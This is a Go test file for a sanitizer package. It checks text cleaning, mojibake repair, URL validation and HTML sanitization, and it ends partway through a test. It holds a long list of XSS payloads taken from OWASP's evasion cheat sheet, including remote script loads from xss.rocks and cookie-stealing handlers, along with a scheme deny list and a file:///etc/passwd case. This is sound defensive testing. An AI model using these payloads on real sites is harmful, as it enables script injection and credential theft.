package sanitize

import (
	"flag"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"unicode"
	"unicode/utf8"
	"unsafe"

	"github.com/curafeed/curafeed/internal/sanitizetest"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
	"golang.org/x/text/unicode/norm"
)

var updateSanitize = flag.Bool("update-sanitize", false, "rewrite the golden files in testdata/sanitize")

// sanitizeBase is the item page the sanitizer tests resolve relative URLs
// against.
var sanitizeBase = func() *url.URL {
	u, err := url.Parse("https://example.org/communities/ccm/curated-content/item/")
	if err != nil {
		panic(err)
	}
	return u
}()

var cleanTextTests = []struct{ name, in, want string }{
	{"empty", "", ""},
	{"clean ASCII", "Improving Cybersecurity in the Medical Industry", "Improving Cybersecurity in the Medical Industry"},
	{"entity decoded once", "Research &amp;amp; Development", "Research &amp; Development"},
	{"named and numeric entities", "Caf&eacute; &#8220;Q&#x26;A&#8221; &copy; 2020", "Café “Q&A” © 2020"},
	{"bare ampersand", "AT&T Q&A", "AT&T Q&A"},
	{"escaped tag stays text", "&lt;b&gt;bold&lt;/b&gt;", "<b>bold</b>"},
	{"tags stripped", "<b>Bold</b> and <i>italic</i>", "Bold and italic"},
	{"inline tags join", "<b>B</b>old", "Bold"},
	{"block tags separate", "<p>one</p><p>two</p><br>three<li>four", "one two three four"},
	{"script and style dropped", "<script>alert(1)</script>Title<style>p{}</style>!", "Title!"},
	{"unfinished tag", "Growth a<b", "Growth a"},
	{"less-than as text", "3 < 5 and 5 > 3", "3 < 5 and 5 > 3"},
	{"comment dropped", "a<!-- note -->b", "ab"},
	{"no markup invented", "<<!-- -->b and <<i></i>p", "< b and < p"},
	{"whitespace collapsed", "  many \t\n  spaces\r\n here  ", "many spaces here"},
	{"nbsp entity", "Hospital Review.&nbsp;<br>What", "Hospital Review. What"},
	{"nbsp character", "a\u00a0\u00a0b\u2003c\u3000d", "a b c d"},
	{"control characters", "a\x00b\x01c\x08d\x0be\x0cf\x1fg\x7fh\u0085i\u0090j", "abcdefgh ij"},
	{"encoded control characters", "a&#1;b&#x0B;c&#0;d", "abc\ufffdd"},
	{"noncharacters", "a\ufffeb\uffffc&#xFFFE;d", "abcd"},
	{"invalid UTF-8", "bad\xffbyte\xc3(", "badbyte("},
	{"byte-order mark", "\ufeffTitle", "Title"},
	{"mojibake", "Beckerâ€™s Hospital Review", "Becker’s Hospital Review"},
	{"mojibake with nbsp", "Ã&nbsp; la carte", "à la carte"},
	{"entity mojibake", "caf&Atilde;&copy;", "café"},
	{"legitimate accents", "SÃO PAULO ÎNVĂȚĂMÂNT NESTLÉ®", "SÃO PAULO ÎNVĂȚĂMÂNT NESTLÉ®"},
	{"CJK and emoji", " 中文 😀 ", "中文 😀"},
}

func TestCleanText(t *testing.T) {
	for _, tt := range cleanTextTests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, Text(tt.in))
		})
	}
}

func TestCleanTextCleanInputNotCopied(t *testing.T) {
	for _, s := range []string{"Plain ASCII title", "Santé publique", "中文"} {
		allocs := testing.AllocsPerRun(100, func() { _ = Text(s) })
		assert.Zero(t, allocs, s)
	}
}

var mojibakeRepairTests = []struct{ name, in, want string }{
	{"right single quote", "Beckerâ€™s", "Becker’s"},
	{"left double quote", "â€œquotedâ€\u009d", "“quoted”"},
	{"right double quote as raw byte", "â€\x9d", "”"},
	{"right double quote as C1", "â€\u009d", "”"},
	{"em dash", "wordâ€”word", "word—word"},
	{"en dash", "2019â€“2020", "2019–2020"},
	{"ellipsis", "moreâ€¦", "more…"},
	{"trade mark", "Brandâ„¢", "Brand™"},
	{"euro", "â‚¬5", "€5"},
	{"pound", "Â£5", "£5"},
	{"nbsp", "a\u00c2\u00a0b", "a\u00a0b"},
	{"e acute", "cafÃ©", "café"},
	{"u umlaut", "MÃ¼ller", "Müller"},
	{"a grave with nbsp", "Ã\u00a0 la carte", "à la carte"},
	{"upper-case word", "MÃœNCHEN", "MÜNCHEN"},
	{"upper-case word middle", "KÃ–LN", "KÖLN"},
	{"capitalized word", "SÃ£o Paulo, ZÃ¼rich", "São Paulo, Zürich"},
	{"Latin-1 decoding", "â\u0080\u0099", "’"},
	{"Polish", "Å›wiat Å‚Ã³dÅº", "świat łódź"},
	{"Cyrillic", "Ð¿Ñ€Ð¸Ð²ÐµÑ‚ Ð² Ð¼Ð¸Ñ€", "привет в мир"},
	{"lone sequence confirmed elsewhere", "â€œ Ð² â€\u009d", "“ в ”"},
	{"Greek", "Î±Î²Î³", "αβγ"},
	{"CJK", "ä¸\u00adæ–‡", "中文"},
	{"emoji", "ðŸ˜€", "😀"},
	{"byte-order mark", "ï»¿Title", "\ufeffTitle"},
	{"mixed good and bad", "Café “ok” and cafÃ© â€œbadâ€\u009d", "Café “ok” and café “bad”"},
	{"double mojibake", "Ã¢â‚¬â„¢", "’"},
	{"double mojibake e acute", "cafÃƒÂ©", "café"},
	{"triple mojibake", "cafÃƒÆ’Ã‚Â©", "café"},
}

var mojibakeUntouched = []string{
	"",
	"plain ASCII text",
	"SÃO PAULO",
	"ÎNVĂȚĂMÂNT",
	"NESTLÉ®",
	"JOSÉ’S CAFÉ—OPEN",
	"AMANHÃ”",
	"Ã",
	"Ã la carte", // the NBSP was already lost: nothing left to decode
	"Â",
	"café\u00a0»",
	"voilà\u00a0»",
	"naïve façade Ærøskøbing",
	"中文 日本語 한국어",
	"😀 emoji 🎉",
	"Ð²",  // one Cyrillic-looking pair and nothing else: not enough evidence
	"Â€",  // would decode to a C1 control character
	"ï¿¾", // would decode to the noncharacter U+FFFE
	"bad\xffbytes\xc3",
}

func TestRepairMojibake(t *testing.T) {
	for _, tt := range mojibakeRepairTests {
		t.Run(tt.name, func(t *testing.T) {
			got := RepairMojibake(tt.in)
			assert.Equal(t, tt.want, got)
			assert.Equal(t, got, RepairMojibake(got), "not a fixed point")
		})
	}
	for _, s := range mojibakeUntouched {
		t.Run("untouched "+s, func(t *testing.T) {
			assert.Equal(t, s, RepairMojibake(s))
		})
	}
}

func TestRepairMojibakeNoAllocation(t *testing.T) {
	for _, s := range []string{"plain ASCII", "SÃO PAULO", "NESTLÉ®", "中文"} {
		assert.Zero(t, testing.AllocsPerRun(100, func() { _ = RepairMojibake(s) }), s)
	}
}

var stripInvalidXMLTests = []struct{ name, in, want string }{
	{"clean", "Hello, world", "Hello, world"},
	{"allowed controls", "a\tb\nc\rd", "a\tb\nc\rd"},
	{"C0 controls", "a\x00\x01\x02\x03\x04\x05\x06\x07\x08b", "ab"},
	{"vertical tab and form feed", "a\x0bb\x0cc", "abc"},
	{"shift out to unit separator", "a\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1fb", "ab"},
	{"DEL and C1 are XML characters", "a\x7f\u0085\u009fb", "a\x7f\u0085\u009fb"},
	{"U+FFFE and U+FFFF", "a\ufffeb\uffffc", "abc"},
	{"U+FFFD kept", "a\ufffdb", "a\ufffdb"},
	{"lone surrogate bytes", "a\xed\xa0\x80b\xed\xbf\xbfc", "abc"},
	{"invalid bytes", "a\xffb\xc3c\x80d", "abcd"},
	{"truncated at end", "abc\xe2\x82", "abc"},
	{"supplementary plane", "a😀b\U0010fffdc", "a😀b\U0010fffdc"},
	{"private use", "a\ue000b", "a\ue000b"},
}

func TestStripInvalidXML(t *testing.T) {
	for _, tt := range stripInvalidXMLTests {
		t.Run(tt.name, func(t *testing.T) {
			got := StripInvalidXML(tt.in)
			assert.Equal(t, tt.want, got)
			assert.True(t, utf8.ValidString(got))
			if tt.in == tt.want {
				assert.Zero(t, testing.AllocsPerRun(100, func() { _ = StripInvalidXML(tt.in) }), "clean input copied")
				assert.True(t, sameString(tt.in, got), "clean input not returned as is")
			}
		})
	}
}

// sameString reports whether a and b share their bytes, which shows that a
// function returned its argument rather than a copy.
func sameString(a, b string) bool {
	return len(a) == len(b) && unsafe.StringData(a) == unsafe.StringData(b)
}

var absoluteURLTests = []struct {
	name, raw string
	base      *url.URL
	want      string // "" means rejected
}{
	{"absolute", "https://tbtech.co/improving-cybersecurity/", nil, "https://tbtech.co/improving-cybersecurity/"},
	{"http", "http://example.com", nil, "http://example.com"},
	{"trimmed", "  https://example.com/a \n", nil, "https://example.com/a"},
	{"scheme and host lower-cased", "HTTPS://Example.COM/Path", nil, "https://example.com/Path"},
	{"dot segments removed", "https://example.com/a/../b/./c", nil, "https://example.com/b/c"},
	{"relative with base", "../other/", sanitizeBase, "https://example.org/communities/ccm/curated-content/other/"},
	{"root-relative with base", "/img/x.png", sanitizeBase, "https://example.org/img/x.png"},
	{"fragment with base", "#top", sanitizeBase, "https://example.org/communities/ccm/curated-content/item/#top"},
	{"protocol-relative with base", "//cdn.example.net/x.js", sanitizeBase, "https://cdn.example.net/x.js"},
	{"absolute ignores base", "http://other.example/x", sanitizeBase, "http://other.example/x"},
	{"spaces encoded", "https://example.com/a b?q=c d", nil, "https://example.com/a%20b?q=c%20d"},
	{"quotes and brackets encoded", `https://example.com/?q="<x>"`, nil, "https://example.com/?q=%22%3Cx%3E%22"},
	{"non-ASCII encoded", "https://example.com/café?q=é", nil, "https://example.com/caf%C3%A9?q=%C3%A9"},
	{"backslash encoded", `https://example.com/a\b`, nil, "https://example.com/a%5Cb"},
	{"port kept", "https://example.com:8443/x", nil, "https://example.com:8443/x"},
	{"relative without base", "/x", nil, ""},
	{"protocol-relative without base", "//example.com/x", nil, ""},
	{"empty", "", sanitizeBase, ""},
	{"blank", " \t ", sanitizeBase, ""},
	{"credentials", "https://user:pass@example.com/", nil, ""},
	{"user only", "https://google.com@evil.example/", nil, ""},
	{"javascript", "javascript:alert(1)", sanitizeBase, ""},
	{"javascript upper-case", "JaVaScRiPt:alert(1)", sanitizeBase, ""},
	{"javascript with tab", "java\tscript:alert(1)", sanitizeBase, ""},
	{"vbscript", "vbscript:msgbox(1)", sanitizeBase, ""},
	{"data", "data:text/html;base64,PHNjcmlwdD4=", sanitizeBase, ""},
	{"file", "file:///etc/passwd", nil, ""},
	{"ftp", "ftp://example.com/x", nil, ""},
	{"mailto", "mailto:someone@example.com", nil, ""},
	{"control character", "https://example.com/a\x00b", nil, ""},
	{"newline inside", "https://exa\nmple.com/", nil, ""},
	{"DEL", "https://example.com/\x7f", nil, ""},
	{"opaque", "http:example.com", nil, ""},
	{"no host", "http:///path", nil, ""},
	{"port only", "http://:80/", nil, ""},
	{"bad escape", "https://example.com/%zz", nil, ""},
	{"bad base", "x", &url.URL{Path: "/relative/"}, ""},
}

func TestAbsoluteURL(t *testing.T) {
	for _, tt := range absoluteURLTests {
		t.Run(tt.name, func(t *testing.T) {
			got, ok := URL(tt.raw, tt.base)
			assert.Equal(t, tt.want, got)
			assert.Equal(t, tt.want != "", ok)
			if ok {
				again, ok := URL(got, nil)
				assert.True(t, ok)
				assert.Equal(t, got, again, "not a fixed point")
			}
		})
	}
}

// xssVectors come from the OWASP XSS Filter Evasion Cheat Sheet and from
// bluemonday's TestXSS; where want is set, the output must be exactly that.
var xssVectors = []struct {
	in   string
	want *string
}{
	{in: `<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>`, want: ptr(``)},
	{in: "javascript:/*--></title></style></textarea></script></xmp>\n<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>"},
	{in: `<a onmouseover="alert(document.cookie)">xxs link</a>`, want: ptr(`xxs link`)},
	{in: `<a onmouseover=alert(document.cookie)>xxs link</a>`, want: ptr(`xxs link`)},
	{in: `<IMG """><SCRIPT>alert("XSS")</SCRIPT>">`, want: ptr(`&#34;&gt;`)},
	{in: `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`, want: ptr(``)},
	{in: `<IMG SRC=# onmouseover="alert('xxs')">`, want: ptr(`<img src="https://example.org/communities/ccm/curated-content/item/">`)},
	{in: `<IMG SRC= onmouseover="alert('xxs')">`},
	{in: `<IMG onmouseover="alert('xxs')">`, want: ptr(``)},
	{in: `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`, want: ptr(`<img src="https://example.org/">`)},
	{in: `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`},
	{in: `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`, want: ptr(``)},
	{in: `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`},
	{in: `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`},
	{in: "<IMG SRC=\"jav\tascript:alert('XSS');\">", want: ptr(``)},
	{in: `<IMG SRC="jav&#x09;ascript:alert('XSS');">`},
	{in: `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`},
	{in: `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`},
	{in: "<IMG SRC=java\x00script:alert(\"XSS\")>"},
	{in: `<IMG SRC=" &#14;  javascript:alert('XSS');">`, want: ptr(``)},
	{in: `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`, want: ptr(``)},
	{in: "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>", want: ptr(``)},
	{in: `<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>`},
	{in: `<<SCRIPT>alert("XSS");//\<</SCRIPT>`, want: ptr(`&lt;`)},
	{in: `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`, want: ptr(``)},
	{in: `<SCRIPT SRC=//xss.rocks/.j>`},
	{in: "<IMG SRC=\"`<javascript:alert>`('XSS')\""},
	{in: `<iframe src=http://xss.rocks/scriptlet.html <`, want: ptr(``)},
	{in: `\";alert('XSS');//`, want: ptr(`\&#34;;alert(&#39;XSS&#39;);//`)},
	{in: `</script><script>alert('XSS');</script>`, want: ptr(``)},
	{in: `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`, want: ptr(``)},
	{in: `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`, want: ptr(``)},
	{in: `<BODY BACKGROUND="javascript:alert('XSS')">`},
	{in: `<IMG DYNSRC="javascript:alert('XSS')">`},
	{in: `<IMG LOWSRC="javascript:alert('XSS')">`},
	{in: `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`, want: ptr(`<ul><li>XSS<br></li></ul>`)},
	{in: `<IMG SRC='vbscript:msgbox("XSS")'>`},
	{in: `<IMG SRC="livescript:[code]">`},
	{in: `<svg/onload=alert('XSS')>`, want: ptr(``)},
	{in: "Set.constructor`alert\\x28document.domain\\x29"},
	{in: `<BODY ONLOAD=alert('XSS')>`, want: ptr(``)},
	{in: `<BGSOUND SRC="javascript:alert('XSS');">`},
	{in: `<BR SIZE="&{alert('XSS')}">`, want: ptr(`<br>`)},
	{in: `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`},
	{in: `<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">`},
	{in: `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`},
	{in: `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`},
	{in: `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`},
	{in: `<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>`},
	{in: `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`},
	{in: "exp/*<A STYLE='no\\xss:noxss(\"*//*\");\nxss:ex/*XSS*//*/*/pression(alert(\"XSS\"))'>"},
	{in: `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`},
	{in: `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`, want: ptr(``)},
	{in: `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`},
	{in: `<XSS STYLE="xss:expression(alert('XSS'))">`},
	{in: `<XSS STYLE="behavior: url(xss.htc);">`},
	{in: `¼script¾alert(¢XSS¢)¼/script¾`, want: ptr(`¼script¾alert(¢XSS¢)¼/script¾`)},
	{in: `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`},
	{in: `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`},
	{in: `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`},
	{in: `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`},
	{in: `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`},
	{in: `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`},
	{in: `<TABLE BACKGROUND="javascript:alert('XSS')">`, want: ptr(`<table></table>`)},
	{in: `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`, want: ptr(`<table><tbody><tr><td></td></tr></tbody></table>`)},
	{in: `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`, want: ptr(`<div></div>`)},
	{in: `<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">`},
	{in: `<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">`},
	{in: `<DIV STYLE="width: expression(alert('XSS'));">`},
	{in: "<!--[if gte IE 4]>\n<SCRIPT>alert('XSS');</SCRIPT>\n<![endif]-->", want: ptr(``)},
	{in: `<BASE HREF="javascript:alert('XSS');//">`, want: ptr(``)},
	{in: `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`, want: ptr(``)},
	{in: `<EMBED SRC="http://ha.ckers.org/xss.swf" AllowScriptAccess="always"></EMBED>`},
	{in: `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`},
	{in: "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:alert('XSS')\"></B></I></XML>\n<SPAN DATASRC=\"#xss\" DATAFLD=\"B\" DATAFORMATAS=\"HTML\"></SPAN>"},
	{in: "<XML SRC=\"xsstest.xml\" ID=I></XML>\n<SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>"},
	{in: "<HTML><BODY>\n<?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\">\n<?import namespace=\"t\" implementation=\"#default#time2\">\n<t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>alert(\"XSS\")</SCRIPT>\">\n</BODY></HTML>"},
	{in: `<SCRIPT SRC="http://xss.rocks/xss.jpg"></SCRIPT>`},
	{in: `<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT SRC=http://xss.rocks/xss.js></SCRIPT>'"-->`, want: ptr(``)},
	{in: "<? echo('<SCR)';\necho('IPT>alert(\"XSS\")</SCRIPT>'); ?>"},
	{in: `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">`},
	{in: `<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-`},
	{in: `<A HREF="http://66.102.7.147/">XSS</A>`, want: ptr(`<a href="http://66.102.7.147/" rel="nofollow noopener noreferrer">XSS</a>`)},
	{in: `<A HREF="http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D">XSS</A>`},
	{in: `<A HREF="//www.google.com/">XSS</A>`, want: ptr(`<a href="https://www.google.com/" rel="nofollow noopener noreferrer">XSS</a>`)},
	{in: `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`, want: ptr(`XSS`)},
	{in: "<A HREF=\"h\ntt\tp://6\t6.000146.0x7.147/\">XSS</A>", want: ptr(`XSS`)},
	{in: `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="http://ha.ckers.org/xss.js"></SCRIPT>`, want: ptr(`PT SRC=&#34;http://ha.ckers.org/xss.js&#34;&gt;`)},
	{in: `<SCRIPT a=">'>" SRC="http://ha.ckers.org/xss.js"></SCRIPT>`, want: ptr(``)},
	{in: "<SCRIPT a=`>` SRC=\"http://ha.ckers.org/xss.js\"></SCRIPT>"},
	{in: `<SCRIPT "a='>'" SRC="http://ha.ckers.org/xss.js"></SCRIPT>`},
	{in: `<SCRIPT =">" SRC="http://ha.ckers.org/xss.js"></SCRIPT>`},
	{in: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`, want: ptr(`x`)},
	{in: `<img src="data:image/png;base64,iVBORw0KGgo=" alt="d">`, want: ptr(``)},
	{in: `<a href="vbscript:msgbox(1)">x</a>`, want: ptr(`x`)},
	{in: `<a href="https://example.com/" onclick="steal()" target="_self" rel="opener" class="btn" id="go">go</a>`, want: ptr(`<a href="https://example.com/" rel="nofollow noopener noreferrer">go</a>`)},
	{in: `<p style="position:fixed;top:0" class="overlay" id="login" onclick="x()">hi</p>`, want: ptr(`<p>hi</p>`)},
	{in: `<form action="https://evil.example/"><input name="password"><button>Log in</button></form>`, want: ptr(`Log in`)},
	{in: `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">CLICK<mtext>x</mtext></maction></math>`},
	{in: `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`, want: ptr(``)},
	{in: `<details open ontoggle=alert(1)>x</details>`, want: ptr(`x`)},
	{in: `<video><source onerror="alert(1)"></video><audio src=x onerror=alert(1)>`, want: ptr(``)},
	{in: `<a href="  javascript:alert(1)">x</a><a href="&#106;avascript:alert(1)">y</a>`, want: ptr(`xy`)},
	{in: `<a href="java&#0;script:alert(1)">x</a>`, want: ptr(`x`)},
	{in: `<scr<script>ipt>alert(1)</scr</script>ipt>`},
	{in: `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, want: ptr(`<img src="https://example.org/communities/ccm/curated-content/item/x">&#34;&gt;`)},
	{in: `<textarea><script>alert(1)</script></textarea>`, want: ptr(``)},
	{in: `<template><script>alert(1)</script></template>`, want: ptr(``)},
	{in: `<a href="https://example.com/" rel="nofollow noopener noreferrer">self</a>`, want: ptr(`<a href="https://example.com/" rel="nofollow noopener noreferrer">self</a>`)},
}

func ptr(s string) *string { return &s }

// TestSanitizeHTMLXSS runs every vector in a parallel subtest, so that
// go test -race exercises the shared policy.
func TestSanitizeHTMLXSS(t *testing.T) {
	for i, tt := range xssVectors {
		t.Run(fmt.Sprintf("%03d", i), func(t *testing.T) {
			t.Parallel()
			for _, base := range []*url.URL{sanitizeBase, nil} {
				got := HTML(tt.in, base)
				requireSafeHTML(t, got)
				assert.Equal(t, got, HTML(got, base), "not a fixed point")
				if tt.want != nil && base != nil {
					assert.Equal(t, *tt.want, got, "input: %s", tt.in)
				}
			}
		})
	}
}

// requireSafeHTML fails unless s is valid UTF-8 made of XML characters, and
// every tag in it is on the allowlist with only allowed attributes whose URLs
// are absolute http(s) or mailto.
func requireSafeHTML(t *testing.T, s string) {
	t.Helper()
	require.True(t, utf8.ValidString(s), "invalid UTF-8: %q", s)
	require.Equal(t, -1, invalidXMLIndex(s), "non-XML character: %q", s)
	lower := strings.ToLower(s)
	for _, bad := range []string{"<script", "<iframe", "<object", "<embed", "<style", "<svg", "<math", "<form", "<input", "<meta", "<link", "<base", "<!--"} {
		require.NotContains(t, lower, bad)
	}
	z := html.NewTokenizer(strings.NewReader(s))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken && tt != html.EndTagToken {
			continue
		}
		tok := z.Token()
		_, ok := htmlAllowlist[tok.Data]
		require.True(t, ok, "element %q not allowed in %q", tok.Data, s)
		for _, a := range tok.Attr {
			require.True(t, allowedAttr(tok.Data, a.Key), "attribute %q on %q in %q", a.Key, tok.Data, s)
			require.False(t, strings.HasPrefix(a.Key, "on"))
			// A script URL can hide behind spaces or characters a browser
			// drops; a value that merely mentions one ("#javascript:x",
			// alt="javascript: the good parts") is harmless text.
			val := strings.Map(func(r rune) rune {
				if r <= ' ' || r == 0x7f {
					return -1
				}
				return unicode.ToLower(r)
			}, a.Val)
			for _, scheme := range []string{"javascript:", "vbscript:", "data:"} {
				require.False(t, strings.HasPrefix(val, scheme), "%s=%q", a.Key, a.Val)
			}
			switch a.Key {
			case "href":
				require.Regexp(t, `^(https?://[^/?#]|mailto:)`, a.Val)
			case "src":
				require.Regexp(t, `^https?://[^/?#]`, a.Val)
			case "rel":
				require.Equal(t, linkRel, a.Val)
			}
		}
	}
}

func TestSanitizeHTMLRelativeURLs(t *testing.T) {
	tests := []struct {
		name, in    string
		base        *url.URL
		want        string
		wantNilBase string
	}{
		{
			name:        "relative link",
			in:          `<a href="../related/">related</a>`,
			want:        `<a href="https://example.org/communities/ccm/curated-content/related/" rel="nofollow noopener noreferrer">related</a>`,
			wantNilBase: `related`,
		},
		{
			name:        "root-relative image",
			in:          `<img src="/media/chart.png" alt="Chart">`,
			want:        `<img src="https://example.org/media/chart.png" alt="Chart">`,
			wantNilBase: ``,
		},
		{
			name:        "page-relative image",
			in:          `<p><img src="8e53-featuredImage.jpeg" width="1000" height="688"></p>`,
			want:        `<p><img src="https://example.org/communities/ccm/curated-content/item/8e53-featuredImage.jpeg" width="1000" height="688"></p>`,
			wantNilBase: `<p></p>`,
		},
		{
			name:        "fragment link",
			in:          `<a href="#section-2">jump</a>`,
			want:        `<a href="https://example.org/communities/ccm/curated-content/item/#section-2" rel="nofollow noopener noreferrer">jump</a>`,
			wantNilBase: `jump`,
		},
		{
			name:        "absolute untouched",
			in:          `<a href="https://tbtech.co/improving-cybersecurity-in-the-medical-industry/">tbtech</a>`,
			want:        `<a href="https://tbtech.co/improving-cybersecurity-in-the-medical-industry/" rel="nofollow noopener noreferrer">tbtech</a>`,
			wantNilBase: `<a href="https://tbtech.co/improving-cybersecurity-in-the-medical-industry/" rel="nofollow noopener noreferrer">tbtech</a>`,
		},
		{
			name:        "unquoted and upper-case",
			in:          `<A TARGET="_blank" HREF=https://statescoop.com/risk-model/>link</A>`,
			want:        `<a href="https://statescoop.com/risk-model/" rel="nofollow noopener noreferrer">link</a>`,
			wantNilBase: `<a href="https://statescoop.com/risk-model/" rel="nofollow noopener noreferrer">link</a>`,
		},
		{
			name:        "query escaped once",
			in:          `<a href="/search?q=a&amp;b=c d">s</a>`,
			want:        `<a href="https://example.org/search?q=a&amp;b=c%20d" rel="nofollow noopener noreferrer">s</a>`,
			wantNilBase: `s`,
		},
		{
			name:        "mailto kept",
			in:          `<a href="mailto:editor@example.org">mail</a>`,
			want:        `<a href="mailto:editor@example.org" rel="nofollow noopener noreferrer">mail</a>`,
			wantNilBase: `<a href="mailto:editor@example.org" rel="nofollow noopener noreferrer">mail</a>`,
		},
		{
			name:        "browser extension image",
			in:          `<img src="chrome-extension://dlpbiloippbopdafhcbhmlfchfpaebkl/do/x.png" alt="" width="750">`,
			want:        ``,
			wantNilBase: ``,
		},
		{
			name:        "first href wins",
			in:          `<a href="javascript:alert(1)" href="/fallback">x</a>`,
			want:        `x`,
			wantNilBase: `x`,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, HTML(tt.in, sanitizeBase))
			assert.Equal(t, tt.wantNilBase, HTML(tt.in, nil))
		})
	}
}

func TestSanitizeHTMLTrackingPixels(t *testing.T) {
	tests := []struct{ in, want string }{
		{`<p>a<img src="https://t.example/p.gif" width="1" height="1">b</p>`, `<p>ab</p>`},
		{`<img src="https://t.example/p.gif" width="0" height="0" alt="">`, ``},
		{`<img src="https://t.example/p.gif" width="1px" height="1px"/>`, ``},
		{`<img height=" 1 " src="https://t.example/p.gif" width=0PX>`, ``},
		{`<img src="/p.gif" width="1" height="0">`, ``},
		{`<img src="https://t.example/banner.gif" width="100" height="1">`, `<img src="https://t.example/banner.gif" width="100" height="1">`},
		{`<img src="https://t.example/rule.gif" width="1" height="100">`, `<img src="https://t.example/rule.gif" width="1" height="100">`},
		{`<img src="https://t.example/one.gif" width="1">`, `<img src="https://t.example/one.gif" width="1">`},
